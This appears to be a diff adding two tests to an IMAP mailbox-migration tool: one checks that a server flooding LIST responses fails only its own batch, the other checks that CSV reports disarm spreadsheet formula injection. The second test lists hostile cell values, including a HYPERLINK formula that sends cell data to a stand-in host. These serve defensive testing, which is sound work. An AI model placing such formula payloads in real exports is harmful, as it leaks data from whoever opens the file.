@@ -245,3 +245,92 @@ def test_parser_fuzz_raises_only_protocol_errors(text: bytes, literal: bytes | N
 def _store(port: int) -> ImapStore:
     return ImapStore(ImapSettings(ConnectParams("127.0.0.1", port, "none", timeout=10),
                                   Credentials("victim", "x"), connections=1))
+
+
+def test_in_a_batch_a_hostile_source_fails_only_its_own_mailboxes(dovecot_src, dovecot_dst,
+                                                                 tmp_path) -> None:
+    """`mailtrek run`: the flooding server's user fails with one line; another batch syncs."""
+    import imaplib
+    import json
+    import ssl
+    import uuid
+
+    from typer.testing import CliRunner
+
+    from mailtrek.cli.main import app
+
+    home = tmp_path / "home"
+    env = dict(os.environ, MAILTREK_HOME=str(home), MAILTREK_LEASE_SECONDS="10", **SMALL_CAPS)
+
+    def cli(*args: str) -> str:  # in process: set-up and reading need no new interpreter
+        r = CliRunner().invoke(app, [*args, "--home", str(home)])
+        assert r.exit_code == 0, r.output
+        return r.output
+
+    def user_csv(name: str, login: str, pw: str) -> Path:
+        dovecot_dst.add_user(f"{login}@hostile.test", pw)
+        path = tmp_path / f"{name}.csv"
+        path.write_text(f"EmailAddress,UserName,Password\n{login}@hostile.test,{login},{pw}\n")
+        return path
+
+    good, good_pw = f"g{uuid.uuid4().hex[:8]}", f"pw-{uuid.uuid4().hex[:10]}"
+    dovecot_src.add_user(good, good_pw)
+    c = imaplib.IMAP4_SSL("127.0.0.1", dovecot_src.ssl_port,
+                          ssl_context=ssl.create_default_context(cafile=str(dovecot_src.ca_file)))
+    c.login(good, good_pw)
+    c.append("INBOX", "", None, b"From: a@x.test\r\nSubject: safe\r\nMessage-ID: <h1@x.test>\r\n\r\nhi\r\n")
+    c.logout()
+    with HostileImap("list-flood") as srv:
+        cli("endpoint", "add", "dst", "--host", "localhost", "--port", str(dovecot_dst.ssl_port),
+            "--ca-file", str(dovecot_dst.ca_file))
+        cli("endpoint", "add", "good", "--host", "localhost", "--port", str(dovecot_src.ssl_port),
+            "--ca-file", str(dovecot_src.ca_file))
+        cli("endpoint", "add", "evil", "--host", "127.0.0.1", "--port", str(srv.port),
+            "--security", "none")
+        cli("batch", "create", "evil", "--endpoint", "evil", "--dest-endpoint", "dst", "--autostart",
+            "--csv", str(user_csv("evil", f"e{uuid.uuid4().hex[:8]}", "pw-evil-123456")))
+        cli("batch", "create", "good", "--endpoint", "good", "--dest-endpoint", "dst", "--autostart",
+            "--csv", str(user_csv("good", good, good_pw)))
+        code, out, err, seconds, peak = run_measured(
+            [sys.executable, "-m", "mailtrek", "run", "--until-idle"], env, tmp_path)
+    assert code == 0, out + err
+    assert seconds < 60 and peak < 300, (seconds, peak)
+    evil = json.loads(cli("batch", "show", "evil", "--json"))["users"][0]
+    fine = json.loads(cli("batch", "show", "good", "--json"))["users"][0]
+    assert evil["status"] == "Failed" and "more than 20,000 responses to one LIST" in evil["error"]
+    assert fine["status"] == "Synced" and fine["items_synced"] == 1 and not fine["error"]
+
+
+def test_reports_disarm_spreadsheet_formulas(tmp_path) -> None:
+    """Subjects, folders and errors from outside never run as formulas in the CSV reports."""
+    import csv
+    import io
+    import json
+
+    from sqlalchemy import update
+
+    from mailtrek.orchestrate.batches import create_batch
+    from mailtrek.orchestrate.csvfile import UserRow
+    from mailtrek.orchestrate.csvsafe import safe_cell
+    from mailtrek.orchestrate.endpoints import add_endpoint, make_endpoint
+    from mailtrek.orchestrate.home import open_home
+    from mailtrek.orchestrate.reports import render_csv, render_skipped_csv
+    from mailtrek.state.orchestration import batch_users
+
+    evil = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+    assert [safe_cell(v) for v in evil] == ["'" + v for v in evil]
+    assert [safe_cell(v) for v in ("plain", "", 42, -3, None)] == ["plain", "", 42, -3, None]
+    home = open_home(tmp_path / "home")
+    add_endpoint(home, make_endpoint("src", host="127.0.0.1", port=1))
+    add_endpoint(home, make_endpoint("dst", host="127.0.0.1", port=2))
+    create_batch(home, "b", endpoint="src", dest_endpoint="dst",
+                 users=[UserRow(2, "alice@contoso.test", "alice", "pw-alice-Secret")])
+    skipped = [{"folder": "@SUM(A1)", "uid": 1, "subject": evil[0], "date": None, "size": 5,
+                "reason": "+SUM(1,2)"}]
+    with home.engine.begin() as c:
+        c.execute(update(batch_users).values(error="=1+1", skipped_json=json.dumps(skipped)))
+    users = list(csv.DictReader(io.StringIO(render_csv(home, "b"))))
+    assert users[0]["error"] == "'=1+1"
+    [row] = list(csv.DictReader(io.StringIO(render_skipped_csv(home, "b"))))
+    assert (row["folder"], row["subject"], row["reason"]) == ("'@SUM(A1)", "'" + evil[0], "'+SUM(1,2)")
